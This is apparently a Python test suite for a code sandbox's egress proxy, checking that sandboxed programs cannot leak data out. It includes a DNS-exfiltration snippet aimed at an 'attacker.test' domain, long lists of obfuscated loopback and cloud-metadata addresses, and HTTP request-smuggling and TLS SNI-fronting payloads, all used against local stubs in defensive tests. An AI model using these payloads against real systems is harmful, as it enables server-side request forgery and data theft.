#!/usr/bin/python3
"""Ways out that must not be (attacks.md F1 to F7, F9), on an island: whatever would leave this machine is seen as a
packet, and the hosts outside are stubs on its loopback. Each refusal has a control beside it that gets through."""
from __future__ import annotations

import os
import socket
import subprocess
import sys
import threading
from typing import Any

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))

from check import check, contains, equal, main, skip  # noqa: E402
from island import Island, NoIsland  # noqa: E402
from krait_server import Server  # noqa: E402
from outside import ASK, Echo, Resolver, Web  # noqa: E402
from test_ca import TestCa  # noqa: E402

PUBLIC, OTHER = "93.184.216.34", "93.184.216.35"
TOKEN = "krait-token"

try:
    island, why_not = Island(), ""
    island.add(PUBLIC)
    island.add(OTHER)
except NoIsland as e:
    island, why_not = None, str(e)


class World:
    """The stubs, the names, and a server whose sandboxes may have any network."""

    def __init__(self) -> None:
        if island is None:
            skip(why_not)
        self.ca = TestCa()
        self.web = Web(address="0.0.0.0").__enter__()
        self.tls = Web(tls=self.ca, names=("allowed.example.test", "evil.example.test"), address="0.0.0.0").__enter__()
        self.names = Resolver({
            "allowed.example.test": [PUBLIC],
            "evil.example.test": [OTHER],
            "private.example.test": ["10.1.2.3"],
            "inward.example.test": ["127.0.0.1"],
            "inward6.example.test": ["::1"],
            "mapped.example.test": ["::ffff:127.0.0.1"],
            "mixed.example.test": ["10.1.2.3", PUBLIC, "127.0.0.1"],
            "turning.example.test": [[PUBLIC], ["127.0.0.1"]],
            "metadata.google.internal": ["169.254.169.254"],
        }).__enter__()
        self.server = Server(args=["--network", "open", "--max-network", "open"], wrap=self.names.wrap).start()

    def close(self) -> None:
        self.server.close(False)
        for one in (self.names, self.tls, self.web):
            one.__exit__(None, None, None)

    def run(self, code: str, rule: str = "open", **more: Any) -> Any:
        reply = self.server.post("/api/v1/runs", {"code": ASK + code + "\nprint(repr(out))", "stream": False,
                                                  "network": rule, "timeout": 60, **more})
        equal(reply.status, 200, reply.text)
        assert reply.json()["stdout"], reply.text
        return eval(reply.json()["stdout"])

    def outside_is_reached(self, rule: str = "open") -> None:
        """The control: the same proxy, the same rule, a host that may be reached."""
        equal(self.run('out = ask("http://allowed.example.test:%d/control")' % self.web.port, rule)[::2],
              (200, b"outside"))


_world: list = []


def world() -> World:
    if not _world:
        _world.append(World())
    return _world[0]


@check
def the_watch_sees_what_leaves():
    if island is None:
        skip(why_not)
    with island.watch() as seen:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(TOKEN.encode(), ("8.8.8.8", 53))
            s.sendto(TOKEN.encode(), ("169.254.169.254", 80))
        with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as s:
            if island.has_v6:
                s.sendto(TOKEN.encode(), ("2001:4860:4860::8888", 53))
    equal(len(seen.of("8.8.8.8", TOKEN.encode())), 1)
    equal(len(seen.of("169.254.169.254")), 1)
    equal(len(seen.of("2001:4860:4860::8888")), int(island.has_v6))


# ---- F1 ---------------------------------------------------------------------------------------

DNS = '''
import os, socket, struct
name = "%s.attacker.test"
labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
question = b"\\x12\\x34\\x01\\0\\0\\1\\0\\0\\0\\0\\0\\0" + labels + b"\\0\\0\\1\\0\\1"
out = []
def attempt(what, call):
    try:
        out.append((what, bool(call())))
    except Exception as e:
        out.append((what, type(e).__name__))
def udp(where):
    s = socket.socket(socket.AF_INET6 if ":" in where else socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(0.3)
    s.sendto(question, (where, 53))
    return s.recv(512)
def tcp(where):
    s = socket.create_connection((where, 53), 0.5)
    s.sendall(struct.pack(">H", len(question)) + question)
    return s.recv(512)
def unix(path):
    s = socket.socket(socket.AF_UNIX)
    s.settimeout(0.5)
    s.connect(path)
    return True
attempt("getaddrinfo", lambda: socket.getaddrinfo(name, 80))
attempt("gethostbyname", lambda: socket.gethostbyname(name))
for where in (%r, "8.8.8.8", "1.1.1.1", "127.0.0.53", "2001:4860:4860::8888"):
    attempt("udp " + where, lambda: udp(where))
    attempt("tcp " + where, lambda: tcp(where))
for path in ("/run/systemd/resolve/io.systemd.Resolve", "/var/run/nscd/socket", "/run/dbus/system_bus_socket"):
    attempt(path, lambda: unix(path))
'''


@check
def f1_no_names_leave():
    w = world()
    for rule in ("none", "loopback", "index", "allow:allowed.example.test:%d" % w.web.port, "open"):
        token = "%s-%s" % (TOKEN, rule.partition(":")[0])
        with island.watch() as seen:
            got = w.run(DNS % (token, w.names.address), rule)
        equal([what for what, how in got if how is True], [], rule)
        equal(seen.packets, [], rule)
        assert not [name for name, _ in w.names.asked if TOKEN in name], (rule, w.names.asked)
    # DNS over HTTPS is a host like any other: only a rule that has it reaches it.
    doh = 'out = tunnel("dns.example.test:443")[1], ask("http://%s.attacker.test/")[0]' % TOKEN
    refused, status = w.run(doh, "allow:allowed.example.test")
    contains(refused, "403")
    equal(status, 403)
    assert not [name for name, _ in w.names.asked if TOKEN in name], w.names.asked
    w.run('out = ask("http://%s-control.example.test/")' % TOKEN, "open")  # with open, names are resolved outside
    assert [name for name, _ in w.names.asked if TOKEN + "-control" in name], w.names.asked


# ---- F2, F3 -----------------------------------------------------------------------------------

METADATA = ["169.254.169.254", "[fd00:ec2::254]", "100.100.100.200", "metadata.google.internal", "168.63.129.16",
            "[fe80::a9fe:a9fe]", "[::ffff:169.254.169.254]", "[::ffff:a9fe:a9fe]", "2852039166", "0xa9fea9fe",
            "0251.0376.0251.0376", "169.254.43518"]
INWARD = ["127.0.0.1", "localhost", "127.1", "127.0.1", "2130706433", "0x7f000001", "0x7f.0.0.1", "017700000001",
          "0177.0.0.1", "127.000.000.001", "0.0.0.0", "0", "[::1]", "[::]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]",
          "[::127.0.0.1]", "[64:ff9b::7f00:1]", "[64:ff9b::127.0.0.1]", "[2002:7f00:1::]", "[64:ff9b:1::7f00:1]",
          "10.0.0.1", "192.168.0.1", "172.16.0.1", "100.64.0.1", "224.0.0.1", "255.255.255.255", "[fc00::1]",
          "[fe80::1]", "[ff02::1]", "[2002:a00:1::]", "inward.example.test", "inward6.example.test",
          "mapped.example.test", "private.example.test"]
EACH = '''
out = []
for host in %r:
    target = "%%s:%d" %% host
    out.append((host, ask("http://%%s/inward" %% target)[0], tunnel(target)[1].split(" ")[1]))
'''


def all_are_refused(hosts: list, port: int) -> None:
    w = world()
    with island.watch() as seen:
        for host, plain, connect in w.run(EACH % (hosts, port)):
            assert plain in (400, 403, 502) and connect in ("400", "403", "502"), (host, plain, connect)
    equal(seen.packets, [])
    assert "/inward" not in w.web.paths(), w.web.asked
    w.outside_is_reached()


@check
def f2_metadata_is_refused_with_open():
    all_are_refused(METADATA, 80)


@check
def f3_no_way_inward_in_any_spelling():
    all_are_refused(INWARD, world().web.port)


@check
def f3_nor_to_krait_itself():
    w = world()
    for host in ("127.0.0.1", PUBLIC, "allowed.example.test"):
        status, why, _ = w.run('out = ask("http://%s:%d/health")' % (host, w.server.port))
        equal(status, 403, host)
        assert "krait itself" in why or "not on the public" in why, why


# ---- F4 ---------------------------------------------------------------------------------------


def heads(allowed: str, evil: str, port: int) -> dict[str, bytes]:
    """Requests of which a second reader could see another host, or another request, than we do."""
    def plain(target: str, host: str, more: str = "", version: str = "1.1", method: str = "GET") -> bytes:
        return ("%s %s HTTP/%s\r\nHost: %s\r\n%s\r\n" % (method, target, version, host, more)).encode("latin-1")

    a, e = "%s:%d" % (allowed, port), "%s:%d" % (evil, port)
    url = "http://%s/evil" % a
    return {
        "another Host": plain("http://%s/evil" % a, e), "another target": plain("http://%s/evil" % e, a),
        "no Host": ("GET %s HTTP/1.1\r\n\r\n" % url).encode(),
        "two Hosts": plain(url, a, "Host: %s\r\n" % e), "two Hosts in one": plain(url, "%s, %s" % (a, e)),
        "a NUL behind": plain("http://%s\0.%s/evil" % (allowed, e), a),
        "a NUL in front": plain("http://%s\0.%s/evil" % (evil, a), a),
        "userinfo": plain("http://%s@%s/evil" % (allowed, e), e), "userinfo and port": plain(
            "http://%s:80@%s/evil" % (allowed, e), e),
        "a fragment": plain("http://%s#@%s/evil" % (evil, a), a), "a backslash": plain(
            "http://%s\\@%s/evil" % (evil, a), a),
        "percent": plain("http://%s%%2f@%s/evil" % (evil, a), a),
        "percent in the name": plain("http://%s%%00.%s/evil" % (evil, a), a),
        "not ASCII": plain("http://\xe9vil.example.test:%d/evil" % port, a),
        "a zone": plain("http://[::1%%25lo]:%d/evil" % port, "[::1%%25lo]:%d" % port),
        "a zone, bare": plain("http://[fe80::1%%lo]:%d/evil" % port, a),
        "CRLF in the target": plain("http://%s/\r\nHost: %s\r\n\r\nGET /evil" % (a, e), a),
        "a bare CR": plain("http://%s/evil\rHost: %s" % (a, e), a), "a tab": plain("http://%s/\tevil" % a, a),
        "folded": plain(url, a, "X-A: 1\r\n Host: %s\r\n" % e),
        "a blank before the colon": plain(url, a, "Host : %s\r\n" % e),
        "two dots": plain("http://%s..:%d/evil" % (allowed, port), a), "an empty host": plain("http:///evil", a),
        "no port behind the colon": plain("http://%s:/evil" % allowed, "%s:" % allowed),
        "port 0": plain("http://%s:0/evil" % allowed, "%s:0" % allowed),
        "port 65616": plain("http://%s:%d/evil" % (allowed, port + 65536), "%s:%d" % (allowed, port + 65536)),
        "a port with a zero": plain("http://%s:0%d/evil" % (allowed, port), "%s:0%d" % (allowed, port)),
        "another scheme": plain("ftp://%s/evil" % a, a), "https in the clear": plain("https://%s/evil" % a, a),
        "HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", "HTTP/0.9": b"GET %s\r\n\r\n" % url.encode(),
        "CONNECT, another Host": plain(a, e, method="CONNECT"),
        "CONNECT without a port": plain(allowed, allowed, method="CONNECT"),
        "CONNECT with a path": plain(a + "/", a, method="CONNECT"),
        "CONNECT with a scheme": plain("http://" + a, a, method="CONNECT"),
        "CONNECT with userinfo": plain("x@" + a, a, method="CONNECT"),
        "length and chunks": plain(url, a, "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n", method="POST")
        + b"0\r\n\r\nGET /evil HTTP/1.1\r\n\r\n",
        "two lengths": plain(url, a, "Content-Length: 4\r\nContent-Length: 5\r\n", method="POST") + b"abcde",
        "a signed length": plain(url, a, "Content-Length: +4\r\n", method="POST") + b"abcd",
        "another coding": plain(url, a, "Transfer-Encoding: xchunked\r\n", method="POST") + b"0\r\n\r\n",
        "two codings": plain(url, a, "Transfer-Encoding: chunked, identity\r\n", method="POST") + b"0\r\n\r\n",
        "chunks in 1.0": plain(url, a, "Transfer-Encoding: chunked\r\n", "1.0", "POST") + b"0\r\n\r\n",
        "a bad chunk": plain("http://%s/bad" % a, a, "Transfer-Encoding: chunked\r\n", method="POST") + b"zz\r\n",
    }


@check
def f4_two_readers_see_one_request():
    w = world()
    rule = "allow:allowed.example.test:%d" % w.web.port
    wrong = heads("allowed.example.test", "evil.example.test", w.web.port)
    got = w.run("out = {name: raw(data)[:12] for name, data in %r.items()}" % wrong, rule)
    for name, answer in got.items():
        assert answer[:10] == b"HTTP/1.1 4" or answer[:12] == b"HTTP/1.1 505" or answer[:12] == b"HTTP/1.1 501", \
            (name, answer)
    assert not [path for path in w.web.paths() if "evil" in path], w.web.asked
    assert not [name for name, _ in w.names.asked if "evil" in name], w.names.asked
    # The same in good spellings, also unusual ones.
    good = ["http://allowed.example.test:%d/good", "http://ALLOWED.Example.test:%d/good",
            "http://allowed.example.test.:%d/good"]
    equal([status for status, _, _ in w.run("out = [ask(u) for u in %r]" % [u % w.web.port for u in good], rule)],
          [200] * 3)
    equal({asked[2]["host"] for asked in w.web.asked if asked[1] == "/good"},
          {"allowed.example.test:%d" % w.web.port})


@check
def f4_fields_between_neighbours_stay_here():
    w = world()
    fields = {"Proxy-Authorization": "Basic eDp5", "Connection": "X-Drop, Content-Length, Upgrade", "X-Drop": "1",
              "Upgrade": "websocket", "TE": "trailers", "X-Keep": "1"}
    status, _, body = w.run('out = ask("http://allowed.example.test:%d/echo", "POST", b"body", %r)'
                            % (w.web.port, fields))
    equal((status, body), (200, b"body"))
    seen = [asked for asked in w.web.asked if asked[1] == "/echo"][-1][2]
    equal([name for name in ("proxy-authorization", "x-drop", "upgrade", "te") if name in seen], [])
    equal((seen["x-keep"], seen["content-length"], seen["connection"]), ("1", "4", "close"))
    w.web.raw["switch"] = b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\n\r\nhello"
    equal(w.run('out = ask("http://allowed.example.test:%d/switch")' % w.web.port)[0], 502)


@check
def f4_replies_are_read_strictly():
    w = world()
    bad = {
        "both": b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        "lengths": b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nhello!",
        "noise": b"\x16\x03\x01 nonsense\r\n\r\n",
        "folded": b"HTTP/1.1 200 OK\r\nX-A: 1\r\n b\r\nContent-Length: 0\r\n\r\n",
    }
    w.web.raw.update(bad)
    code = "out = {n: ask('http://allowed.example.test:%d/' + n)[0] for n in %r}" % (w.web.port, list(bad))
    equal(w.run(code), dict.fromkeys(bad, 502))
    equal(w.run("out = ask('http://allowed.example.test:%d/cut')" % w.web.port), (200, "cut", b"half"))
    equal(w.run("out = ask('http://allowed.example.test:%d/chunked')" % w.web.port), (200, "", b"hello world"))


TLS = '''
def tls(target, sni, change=lambda hello: hello):
    """What a server of TLS answers in a tunnel, where the client names `sni`."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    s, line = tunnel(target)
    if " 200 " not in line:
        return line
    into, outof = ssl.MemoryBIO(), ssl.MemoryBIO()
    c = context.wrap_bio(into, outof, server_hostname=sni)
    first = True
    def step(call):
        nonlocal first
        while True:
            try:
                got = call()
                done = True
            except ssl.SSLWantReadError:
                done = False
            data = outof.read()
            if data:
                s.sendall(change(data) if first else data)
                first = False
            if done:
                return got
            data = s.recv(65536)
            if not data:
                raise EOFError
            into.write(data)
    try:
        step(c.do_handshake)
        step(lambda: c.write(b"GET /secret HTTP/1.0\\r\\nHost: allowed.example.test\\r\\n\\r\\n"))
        return step(lambda: c.read(12))
    except ssl.SSLError:
        return "answered"  # by a server that saw another ClientHello than the client said
    except (EOFError, OSError):
        return "closed"
    finally:
        s.close()

def with_extension(hello, kind, body):
    """The same ClientHello with one extension more."""
    more = kind.to_bytes(2, "big") + len(body).to_bytes(2, "big") + body
    record = bytearray(hello)
    at = 5 + 4 + 2 + 32
    at += 1 + record[at]
    at += 2 + int.from_bytes(record[at:at + 2], "big")
    at += 1 + record[at]
    for place, size in ((3, 2), (6, 3), (at, 2)):
        length = int.from_bytes(record[place:place + size], "big") + len(more)
        record[place:place + size] = length.to_bytes(size, "big")
    return bytes(record) + more

def in_pieces(hello):
    body = hello[5:]
    return b"".join(b"\\x16\\x03\\x01" + len(p).to_bytes(2, "big") + p for p in (body[:3], body[3:60], body[60:]))
'''


@check
def f4_tls_names_the_host_of_its_tunnel():
    w = world()
    target = "allowed.example.test:%d" % w.tls.port
    code = TLS + """
t = %r
ech = lambda hello: with_extension(hello, 0xfe0d, b"\\0" * 32)
twice = lambda hello: with_extension(hello, 0, b"\\0\\x0c\\0\\0\\x09evil.test")
out = {
    "right": tls(t, "allowed.example.test"), "none": tls(t, None),
    "in pieces": tls(t, "allowed.example.test", in_pieces),
    "upper case": tls(t, "ALLOWED.example.test"), "fronting": tls(t, "evil.example.test"),
    "below": tls(t, "x.allowed.example.test"), "ECH": tls(t, "allowed.example.test", ech),
    "two names": tls(t, "allowed.example.test", twice),
    "another host": tls("evil.example.test:%d", "allowed.example.test"),
}
""" % (target, w.tls.port)
    before = len(w.tls.asked)
    got = w.run(code, "allow:" + target)
    right = b"HTTP/1.1 200"
    for name in ("right", "none", "in pieces", "upper case"):
        equal(got[name], right, name)
    for name in ("fronting", "below", "ECH", "two names"):
        equal(got[name], "closed", name)
    contains(got["another host"], "403")
    equal(len(w.tls.asked) - before, 4)
    equal(w.run(TLS + "t = %r\nout = tls(t, 'allowed.example.test', lambda h: with_extension(h, 0xfe0d, b'0' * 32))"
                % target, "open"), "answered")  # a rule of no names has none to hide


@check
def f4_only_tls_where_the_rule_does_not_name_the_port():
    """Ports 80 and 443 of `allow:HOST` are for HTTP and TLS."""
    w = world()
    hello = "s, line = tunnel('allowed.example.test:%d')\ns.sendall(b'SSH-2.0-x')\n"
    end = "s.settimeout(20)\ntry:\n    out = line, s.recv(9)\nexcept OSError:\n    out = line, b''\n"
    with Echo() as echo:
        island_port = socket.create_server((PUBLIC, 443))
        try:
            line, got = w.run(hello % 443 + end, "allow:allowed.example.test")
            contains(line, "200")
            equal(got, b"")
            island_port.settimeout(5)
            upstream, _ = island_port.accept()
            upstream.settimeout(5)
            equal(upstream.recv(100), b"")  # not a byte of it went up
            upstream.close()
        finally:
            island_port.close()
        server = socket.create_server((PUBLIC, 0))
        try:
            server.settimeout(20)
            threading.Thread(target=lambda: server.accept()[0].sendall(b"SSH-2.0-y"), daemon=True).start()
            port = server.getsockname()[1]
            line, got = w.run(hello % port + end, "allow:allowed.example.test:%d" % port)
            equal(got, b"SSH-2.0-y")
        finally:
            server.close()
        equal(echo.count, 0)


# ---- F5 ---------------------------------------------------------------------------------------


@check
def f5_a_name_is_judged_by_its_addresses_each_time():
    w = world()
    port = w.web.port
    code = 'out = [ask("http://turning.example.test:%d/turn%%d" %% i)[0] for i in range(3)]' % port
    equal(w.run(code), [200, 403, 403])
    equal([p for p in w.web.paths() if p.startswith("/turn")], ["/turn0"])
    with island.watch() as seen:  # of several addresses, those that pass are connected to, and no other
        equal(w.run('out = ask("http://mixed.example.test:%d/mixed")[0]' % port), 200)
    equal(seen.packets, [])


@check
def f5_a_redirect_is_a_new_request():
    w = world()
    code = """
import urllib.request, urllib.error
def get(url):
    try:
        return urllib.request.urlopen(url, timeout=20).status
    except urllib.error.HTTPError as e:
        return e.code
base = "http://allowed.example.test:%d/redirect/"
out = [get(base + to) for to in %r]
"""
    to = ["http://inward.example.test:%d/evil-redirect" % w.web.port, "http://10.1.2.3/evil-redirect",
          "http://evil.example.test:%d/evil-redirect" % w.web.port, "http://allowed.example.test:%d/fine" % w.web.port]
    equal(w.run(code % (w.web.port, to), "allow:allowed.example.test:%d" % w.web.port), [403, 403, 403, 200])
    assert "/evil-redirect" not in w.web.paths()


# ---- F6 ---------------------------------------------------------------------------------------


@check
def f6_rules_of_methods_and_paths():
    w = world()
    host = "allowed.example.test:%d" % w.web.port
    rule = "allow:GET|HEAD http://%s/packages/*" % host
    asks = [("GET", "/packages/a"), ("HEAD", "/packages/a"), ("POST", "/packages/a"), ("GET", "/upload"),
            ("GET", "/packages/../upload"), ("GET", "/packages/%2e%2e/upload"), ("GET", "/packages//x"),
            ("GET", "/packages/a;b"), ("PUT", "/packages/a"), ("GET", "/PACKAGES/a")]
    got = w.run("out = [ask('http://%s' + path, method)[0] for method, path in %r]" % (host, asks), rule)
    equal(got, [200, 200] + [403] * 8)
    contains(w.run("out = tunnel(%r)[1]" % host, rule), "403")  # what a tunnel carries no rule could judge
    equal(sorted(p for _, p, _, _ in w.web.asked if p.startswith("/packages")), ["/packages/a"] * 2)


# ---- F7 ---------------------------------------------------------------------------------------

OTHER_WAYS = '''
import os, socket
out = []
def attempt(what, call):
    try:
        call()
        out.append(what)
    except OSError:
        pass
targets = [(socket.AF_INET, %r), (socket.AF_INET, "8.8.8.8")] + [(socket.AF_INET6, "2001:4860:4860::8888")]
for family, host in targets:
    for port in (53, 80, 123, 443):
        def udp():
            s = socket.socket(family, socket.SOCK_DGRAM)
            s.sendto(b"krait-token", (host, port))
        def tcp():
            s = socket.socket(family, socket.SOCK_STREAM)
            s.settimeout(0.5)
            s.connect((host, port))
        attempt("udp", udp)
        attempt("tcp", tcp)
kinds = [("raw", socket.AF_INET, socket.SOCK_RAW, 1), ("ping", socket.AF_INET, socket.SOCK_DGRAM, 1),
         ("packet", socket.AF_PACKET, socket.SOCK_RAW, 0), ("netlink", socket.AF_NETLINK, socket.SOCK_RAW, 0),
         ("vsock", socket.AF_VSOCK, socket.SOCK_STREAM, 0), ("sctp", socket.AF_INET, socket.SOCK_STREAM, 132),
         ("mptcp", socket.AF_INET, socket.SOCK_STREAM, 262), ("alg", socket.AF_ALG, socket.SOCK_SEQPACKET, 0)]
for what, *kind in kinds:
    attempt(what, lambda: socket.socket(*kind))
'''


@check
def f7_no_other_protocol_leads_out():
    w = world()
    for rule in ("none", "loopback", "index", "open"):
        with island.watch() as seen:
            equal(w.run(OTHER_WAYS % OTHER, rule), [], rule)
        equal(seen.packets, [], rule)
    w.outside_is_reached()


# ---- F9 ---------------------------------------------------------------------------------------


@check
def f9_without_the_proxy_there_is_no_way():
    w = world()
    code = """
import urllib.request
out = []
bare = urllib.request.build_opener(urllib.request.ProxyHandler({}))
for url in ("http://%s:%d/bare", "http://allowed.example.test:%d/bare"):
    try:
        out.append(bare.open(url, timeout=2).status)
    except OSError as e:
        out.append(0)
"""
    with island.watch() as seen:
        equal(w.run(code % (PUBLIC, w.web.port, w.web.port)), [0, 0])
    equal(seen.packets, [])
    assert "/bare" not in w.web.paths()


@check
def f9_each_session_has_a_proxy_of_its_own():
    """What a sandbox reaches on 127.0.0.1:3128 is judged by its own rule; without a rule nothing is there."""
    w = world()
    ask = 'out = ask("http://allowed.example.test:%d/own")[0]' % w.web.port
    equal(w.run(ask, "allow:allowed.example.test:%d" % w.web.port), 200)
    equal(w.run(ask, "allow:other.example.test"), 403)
    equal(w.run(ask, "loopback"), 403)  # a run that asks for less than its session has
    equal(w.run(ask, "none"), 403)
    for rule in ("loopback", "none"):
        made = w.server.post("/api/v1/sandboxes", {"network": rule}).json()
        equal(w.run(ask, rule, sandbox=made["id"]), 0)
    with socket.socket() as s:  # nor does this machine
        assert s.connect_ex(("127.0.0.1", 3128)) != 0
    found = w.run("import os\nout = [p for r, d, f in os.walk('/run') for p in f if 'krait' in p]")
    equal(found, [])


# ---- what must be so without a rule -----------------------------------------------------------


@check
def no_egress_process_for_a_run_without_a_rule():
    """`krait run` starts one only where its rule needs it."""
    krait = os.environ.get("KRAIT", "build/krait")
    program = ["-c", "import time; print('on', flush=True); time.sleep(60)"]

    def egress_processes(rule: str) -> list:
        run = subprocess.Popen([krait, "run", "--network", rule, *program], stdout=subprocess.PIPE,
                               stderr=subprocess.DEVNULL)
        try:
            equal(run.stdout.readline(), b"on\n")
            found = []
            for pid in open("/proc/%d/task/%d/children" % (run.pid, run.pid)).read().split():
                fds = os.listdir("/proc/%s/fd" % pid)
                links = [os.readlink("/proc/%s/fd/%s" % (pid, fd)) for fd in fds if fd != "255"]
                status = open("/proc/%s/status" % pid).read()
                if "Seccomp:\t2" in status and links[:2] == ["/dev/null"] * 2:
                    found.append(pid)
            return found
        finally:
            run.terminate()
            run.wait(20)
            run.stdout.close()

    equal(egress_processes("none"), [])
    equal(egress_processes("loopback"), [])
    equal(len(egress_processes("open")), 1)


@check
def a_run_without_a_network_sees_no_path_of_this_machine():
    krait = os.environ.get("KRAIT", "build/krait")
    code = "print(open('/proc/self/mountinfo').read())"
    done = subprocess.run([krait, "run", "-c", code], capture_output=True, text=True, timeout=60)
    contains(done.stdout, " /workspace ")
    own = os.path.dirname(os.path.abspath(krait))
    for line in done.stdout.splitlines():
        for path in ("/tmp/krait", "/run/krait", "/home", "/root", "/var/lib", "upperdir", own):
            assert path not in line, line


if __name__ == "__main__":
    try:
        main()
    finally:
        for one in _world:
            one.close()
